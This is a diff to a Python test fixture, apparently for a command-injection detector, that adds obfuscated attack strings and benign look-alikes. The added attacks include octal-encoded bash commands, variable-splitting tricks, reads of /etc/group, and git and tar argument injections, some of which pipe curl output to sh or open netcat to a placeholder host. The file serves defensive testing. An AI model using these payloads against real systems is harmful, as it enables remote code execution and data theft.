@@ -45,6 +45,20 @@ ATTACKS: dict[str, tuple[str, Context]] = {
     "powershell_wildcard_binary": ("pwsh C:\\W*\\S*32\\c?lc.e?e", QUERY),
     "dir_of_spaced_system_folder": ("dir C:\\Program Files (x86)\\*", BODY),
     "recon_url_with_query": ("wget http://203.0.113.9/s.php?c=id", QUERY),
+    "windows_wildcard_command_after_separator": ("| C:\\W*\\Sys*\\whoa?i.e*", QUERY),
+    # bash's $'…' quoting made only of character codes
+    "ansi_c_octal_command": ("$'\\151\\146\\143\\157\\156\\146\\151\\147'", QUERY),
+    "ansi_c_octal_after_separator": ("x;$'\\150\\145\\141\\144' /etc/group", BODY),
+    "ansi_c_octal_variable_run": ("R=$'\\165\\156\\141\\155\\145';$R", BODY),
+    # a braced variable inside a word, unset, so the word joins
+    "braced_unset_variable_in_word": ("&& w${z}ho${z}ami", QUERY),
+    "substring_char_empty_offset": ("tac ${HOME::1}etc${HOME::1}group", QUERY),
+    # argument injection: an option that makes the program run a command
+    "git_upload_pack_option": ("--upload-pack=curl -s 203.0.113.7|sh", QUERY),
+    "git_ssh_command_config": ("-c core.sshCommand=\"sh -c id\"", BODY),
+    "tar_checkpoint_action": ("--checkpoint-action=exec=/tmp/run.sh", QUERY),
+    "tar_compress_program": ("--use-compress-program=nc 203.0.113.7 9001", BODY),
+    "tar_to_command": (" --to-command='sh -c id'", QUERY),
     # an XSLT stylesheet calling PHP's command functions
     "xslt_php_function": ("<xsl:value-of select=\"php:function('shell_exec','uname -a')\"/>", BODY),
 }
@@ -75,6 +89,14 @@ BENIGN: dict[str, tuple[str, Context]] = {
     "xslt_php_formatting": ("<xsl:value-of select=\"php:function('ucfirst', string(name))\"/>", BODY),
     "price_and_dollars": ("Only $5 for 2, ${price} each", QUERY),
     "cron_line": ("*/5 * * * * /usr/local/bin/backup.sh > /dev/null 2>&1", BODY),
+    "file_patterns_list": ("C:\\Logs\\*.txt; D:\\Exports\\2024-??.csv", BODY),
+    "ansi_c_newline_in_prose": ("IFS=$'\\n' splits on lines only", BODY),
+    "template_var_in_word": ("Dear ${first}${last}, thanks", BODY),
+    "cli_option_in_docs": ("--config=./bastion.toml --exec-timeout=30s", QUERY),
+    "git_config_option": ("-c core.autocrlf=false", QUERY),
+    "markdown_loop_block": ("To compress logs:\n\n```bash\nfor f in $(ls *.log); do gzip \"$f\"; done\n```\n", BODY),
+    "markdown_substring_block": ("Short hash:\n\n    echo ${GITHUB_SHA:0:8}\n", BODY),
+    "windows_program_path": ("C:\\Program Files\\nodejs\\node.exe", Context("body", "file")),
     "english_tool_words": ("Find the host, cat and date of more sleep", BODY),
 }
 
